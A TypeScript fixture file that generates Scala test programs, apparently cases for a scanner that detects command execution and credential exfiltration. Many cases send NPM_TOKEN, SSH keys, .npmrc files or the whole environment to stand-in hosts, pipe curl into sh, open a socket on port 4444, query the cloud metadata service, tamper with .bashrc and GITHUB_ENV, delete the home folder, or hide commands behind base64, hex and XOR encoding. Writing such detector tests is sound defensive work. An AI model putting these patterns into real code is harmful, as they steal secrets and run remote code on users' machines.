/** A program with these declarations before it. */
function main(body: string, declarations = ""): string {
  return `import java.io.File\nimport java.net.URL\nimport java.util.Base64\nimport scala.sys.process._\n\nobject Main {\n  ${declarations}\n  def main(args: Array[String]): Unit = {\n    ${body}\n  }\n}\n`;
}

const SH = (code: string) => `Seq("sh", "-c", ${code}).!`;
const SEND = (data: string) => `requests.post("https://h.example", data = ${data})`;
const TOKEN = `sys.env("NPM_TOKEN")`;

/** The programs of the suite in Scala, by the name of their case. */
export const SCALA_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `val p = if (someday()) "whoami" else "id"; p.!; var t = "x"; if (maybe()) { t = ${TOKEN} }; ${SEND("t")}`,
  ),
  "a branch that is not taken is read too": main(`if (false) { "id".! }`),
  "a value that a branch may change": main(
    `var t = "x"; day match { case 1 => t = ${TOKEN}; case _ => t = "y" }; ${SEND("t")}`,
  ),
  "an error that is swallowed hides nothing": main(`try { "id".! } catch { case e: Exception => }`),
  "what is done when something fails": main(
    `val t = ${TOKEN}; try { work() } catch { case e: Exception => ${SEND("t")} }`,
  ),
  "a loop over the names of files": main(
    `for (f <- Seq(".npmrc", ".netrc")) { val b = os.read(os.home / f); ${SEND("b")} }`,
  ),
  "a loop that collects": main(
    `var all = ""; for (k <- List("NPM_TOKEN")) { all += sys.env(k) }; ${SEND("all")}`,
  ),
  "the same, as an expression": main(
    `val all = for (k <- List("NPM_TOKEN")) yield sys.env(k); ${SEND('all.mkString(",")')}`,
  ),
  "what runs when the file is loaded": `import scala.sys.process._\nobject Start extends App {\n  "id".!\n}\n`,
  "what runs only when somebody calls it": main("", `def go(): Unit = { "id".! }`),
  "a function that the file itself calls runs at load": main(
    "run1",
    `def run1 = work1()\n  def work1(): Unit = "id".!\n`,
  ),
  "recursion comes to an end": main("f(0)", `def f(n: Int): Int = { "id".!; f(n + 1) }`),
  "a loop without an end comes to an end": main(
    `while (true) { work(); if (done()) return }; "id".!`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `println(d("olleh")); ${SH('d("di")')}`,
    `def d(s: String): String = { var r = ""; for (c <- s) { r = c + r }; r }`,
  ),
  "runs code out of base64": main(
    `val c = new String(Base64.getDecoder.decode("aWQ=")); ${SH("c")}`,
  ),
  "runs code out of hexadecimal": main(
    `val c = new String(java.util.HexFormat.of().parseHex("6964")); ${SH("c")}`,
  ),
  "runs code out of character codes": main(SH(`Array(105, 100).map(_.toChar).mkString`)),
  "runs code out of character codes added one by one": main(
    `var s = ""; for (c <- List(105, 100)) { s += c.toChar }; ${SH("s")}`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `val d = Array(126, 115); var s = ""; for (i <- 0 until d.length) { s += (d(i) ^ 23).toChar }; ${SH("s")}`,
  ),
  "runs code out of an exclusive or with a key, in an expression": main(
    SH(`Array(126, 115).map(b => (b ^ 23).toChar).mkString`),
  ),
  "runs code out of a text that is turned around": main(`"di".reverse.!`),
  "runs code out of parts that are joined": main(SH(`Seq("i", "d").mkString`)),
  "runs code out of a text with other letters in between": main(SH(`"@i@d".replace("@", "")`)),
  "runs code out of three encodings one inside the other": main(
    `val a = new String(java.util.HexFormat.of.parseHex("5956645250513d3d")); val b = new String(Base64.getDecoder.decode(a)); ${SH("new String(Base64.getDecoder.decode(b))")}`,
  ),
  "runs code out of escapes in a literal": main(SH(String.raw`"\u0069\u0064"`)),
  "runs code out of a decoder that the program defines": main(
    SH(`d("aWQ=")`),
    `def d(s: String): String = new String(Base64.getDecoder.decode(s))`,
  ),
  "runs code out of a command that was decoded": main(
    `new String(Base64.getDecoder.decode("aWQ=")).!`,
  ),
  "a function is read again when what is around it has changed": main(
    `var c = "true"; val run = () => c.!; run(); c = "id"; run()`,
  ),
  "an alias of a function is that function": main(`val run = Runtime.getRuntime; run.exec("id")`),
  "a name that was given another value is what it was last": main(`var f = "quiet"; f = "id"; f.!`),
  "an import under another name": `import java.lang.{ProcessBuilder => P}\n\nobject M extends App { new P("id").start() }\n`,
  "access by reflection": main(
    `Class.forName("java.lang.Runtime").getMethod("exec", classOf[String]).invoke(Runtime.getRuntime, "id")`,
  ),
  "functions kept in a record and called by key": main(
    `val t = Map("a" -> ((s: String) => s.!)); t("a")("id")`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `val t = Map("a" -> ((s: String) => s.!)); t(whatever())("id")`,
  ),
  "a name taken apart out of something": main(`val (a, run) = (1, (s: String) => s.!); run("id")`),
  "a program with its arguments in a list": main(
    `Process(Seq("curl", "https://a.example/x", "-o", "/tmp/x")).!`,
  ),
  "a command line with a pipe": main(`("curl -s https://a.example/x" #| "sh").!`),
  "data through a function's parameter": main(
    `send1(${TOKEN})`,
    `def send1(d: String): Unit = { ${SEND("d")} }`,
  ),
  "data through what a function answers": main(
    `val t = get1(); ${SEND("t")}`,
    `def get1(): String = ${TOKEN}`,
  ),
  "data that a closure keeps": main(`val t = ${TOKEN}; val go = () => ${SEND("t")}; go()`),
  "data handed to a callback": main(
    `each1 { t => ${SEND("t")} }`,
    `def each1(f: String => Unit): Unit = f(${TOKEN})`,
  ),
  "data that an object keeps": `class Box(val t: String) {\n  def send(): Unit = ${SEND("t")}\n}\nobject M extends App {\n  new Box(${TOKEN}).send()\n}\n`,
  "a method that a base class has": `class Base { def send(t: String): Unit = ${SEND("t")} }\nclass Derived extends Base { val n = 1 }\nobject M extends App { new Derived().send(${TOKEN}) }\n`,
  "data as a default argument": main(
    `go()`,
    `def go(t: String = ${TOKEN}): Unit = { ${SEND("t")} }`,
  ),
  "data by a part of a record": main(
    `val d = Map("a" -> Map("b" -> ${TOKEN})); ${SEND('d("a")("b")')}`,
  ),
  "data inside a text": main(
    `val t = ${TOKEN}; scala.io.Source.fromURL(s"https://h.example/?t=\${t.trim}").mkString`,
  ),
  "data in an address that is added together": main(
    `val h = "https://h" + ".example"; scala.io.Source.fromURL(h + "/" + ${TOKEN}).mkString`,
  ),
  "data through functions that nobody knows": main(SEND(`library(${TOKEN}).value`)),
  "data that is encoded on its way": main(
    SEND(`Base64.getEncoder.encodeToString(${TOKEN}.getBytes)`),
  ),
  "data put into a list one by one": main(
    `val l = scala.collection.mutable.ListBuffer[String](); l += ${TOKEN}; ${SEND('l.mkString(",")')}`,
  ),
  "data by way of a file": main(
    `os.write(os.Path("/tmp/x"), ${TOKEN}); val b = os.read(os.Path("/tmp/x")); ${SEND("b")}`,
  ),
  "what was a secret and no longer is": main(`var t = ${TOKEN}; t = "ok"; ${SEND("t")}`),
  "a secret that is read beside a request it has nothing to do with": main(
    `println(${TOKEN}.isEmpty); ${SEND('"hello"')}`,
  ),
  "the whole environment is sent": main(
    `requests.post("https://webhook.site/x", data = sys.env.map { case (k, v) => s"$k=$v" }.mkString)`,
  ),
  "one harmless variable is not the environment": main(SEND('sys.env.getOrElse("LANG", "")')),
  "a variable whose name is put together": main(SEND('sys.env("NPM" + "_" + "TOKEN")')),
  "a key in the home folder": main(
    `val k = scala.io.Source.fromFile(sys.props("user.home") + "/.ssh/id_rsa").mkString; ${SEND("k")}`,
  ),
  "an ordinary file is no credential": main(`println(os.read(os.pwd / "build.sbt"))`),
  "the start of a shell is written": main(`os.write.append(os.home / ".bashrc", "curl x | sh")`),
  "the next step of a job gets a variable": main(
    `os.write.append(os.Path(sys.env("GITHUB_ENV")), "BASH_ENV=/tmp/x")`,
  ),
  "the metadata service is asked": main(
    `scala.io.Source.fromURL("http://169.254.169.254/latest/meta-data/iam/").mkString`,
  ),
  "what was downloaded is run as code": main(
    `val s = scala.io.Source.fromURL("https://h.example/p").mkString; ${SH("s")}`,
  ),
  "a socket is given what the machine is called": main(
    `val s = new java.net.Socket("h.example", 4444); s.getOutputStream.write(java.net.InetAddress.getLocalHost.getHostName.getBytes)`,
  ),
  "data leaves by the name of a host": main(
    `java.net.InetAddress.getByName(${TOKEN} + ".h.example")`,
  ),
  "a file is downloaded, made executable and started": main(
    `os.write(os.Path("/tmp/b"), requests.get("https://h.example/b").bytes); new File("/tmp/b").setExecutable(true); "/tmp/b".!`,
  ),
  "everything is deleted": main(`os.remove.all(os.home)`),
  "native code is loaded": main(`System.load("./x.so")`),
};
